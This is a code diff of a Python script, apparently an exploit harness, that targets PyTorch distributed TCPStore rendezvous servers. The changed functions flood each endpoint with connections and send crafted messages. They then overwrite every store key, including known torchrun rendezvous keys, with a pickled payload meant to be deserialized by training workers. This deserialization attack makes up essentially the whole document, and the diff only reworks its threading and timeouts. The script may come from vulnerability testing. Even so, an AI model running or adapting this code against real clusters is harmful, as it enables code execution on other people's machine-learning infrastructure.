@@ -14,13 +14,14 @@ import socket
 import struct
 import sys
 import time
-from concurrent.futures import ThreadPoolExecutor
 from datetime import timedelta
+from threading import Thread
 from typing import Any
 
-from torch.distributed import TCPStore
+from torch._C._distributed_c10d import TCPStore
 
 _NOBODY = 65534
+_STORE_SECONDS = 6.0
 _RENDEZVOUS = "torch.rendezvous."
 _KNOWN_KEYS = (f"{_RENDEZVOUS}a1-1", "default_pg/0", "0", "worker/attempt_0/default_pg/0//0//cpu//0/0")
 
@@ -40,21 +41,29 @@ def main(document: dict[str, Any]) -> list[dict[str, Any]]:
     os.setgid(_NOBODY)
     os.setuid(_NOBODY)
     payload = pickle.dumps(_Payload(document["marker"]))
-    endpoints = document["endpoints"]
-    with contextlib.ExitStack() as idle, ThreadPoolExecutor(max(1, len(endpoints))) as pool:
-        stores = list(pool.map(lambda endpoint: _attack(*endpoint, payload, idle), endpoints))
-    return [store for store in stores if store]
+    with contextlib.ExitStack() as idle:
+        reached = [(address, port) for address, port in document["endpoints"] if _attack(address, port, payload, idle)]
+        stores: list[dict[str, Any]] = []
+        attacks = [Thread(target=_attack_store, args=(*endpoint, payload, stores), daemon=True) for endpoint in reached]
+        for attack in attacks:
+            attack.start()
+        # torch's client waits without a limit for the answer of a server that is no store.
+        deadline = time.monotonic() + _STORE_SECONDS
+        for attack in attacks:
+            attack.join(max(0.0, deadline - time.monotonic()))
+        return list(stores)
 
 
-def _attack(address: str, port: int, payload: bytes, idle: contextlib.ExitStack) -> dict[str, Any] | None:
+def _attack(address: str, port: int, payload: bytes, idle: contextlib.ExitStack) -> bool:
+    """Send everything but the requests of a store; return whether the socket can be reached."""
     try:
         for _ in range(20):
             idle.enter_context(socket.create_connection((address, port), timeout=2))
     except OSError:
-        return None
+        return False
     for message in _messages(payload):
         _send(address, port, message)
-    return _attack_store(address, port, payload)
+    return True
 
 
 def _messages(payload: bytes) -> list[bytes]:
@@ -72,19 +81,18 @@ def _send(address: str, port: int, message: bytes) -> None:
         connection.recv(1024)
 
 
-def _attack_store(address: str, port: int, payload: bytes) -> dict[str, Any] | None:
-    """Write pickles to all keys of a store, as torchrun's own rendezvous keeps them. None if it is no store."""
-    try:
-        store = TCPStore(address, port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False)
+def _attack_store(address: str, port: int, payload: bytes, stores: list[dict[str, Any]]) -> None:
+    """Write pickles to all keys of a store, as torchrun's own rendezvous keeps them, and add it to `stores`."""
+    with contextlib.suppress(Exception):
+        limit = timedelta(seconds=_STORE_SECONDS / 2)
+        store = TCPStore(address, port, is_master=False, timeout=limit, wait_for_workers=False)
         keys = store.list_keys()
+        stores.append({"address": address, "port": port, "keys": keys})
         for key in {*keys, *_KNOWN_KEYS}:
-            store.set(key, base64.b64encode(payload))
-    except Exception:
-        return None
-    return {"address": address, "port": port, "keys": keys}
+            store.set(key, base64.b64encode(payload).decode())
 
 
 if __name__ == "__main__":
-    started = time.monotonic()
-    json.dump(main(json.loads(sys.argv[1])), sys.stdout)
-    print(f"{time.monotonic() - started:.1f} s", file=sys.stderr)
+    print(json.dumps(main(json.loads(sys.argv[1]))), flush=True)
+    # Threads may still wait for an answer.
+    os._exit(0)
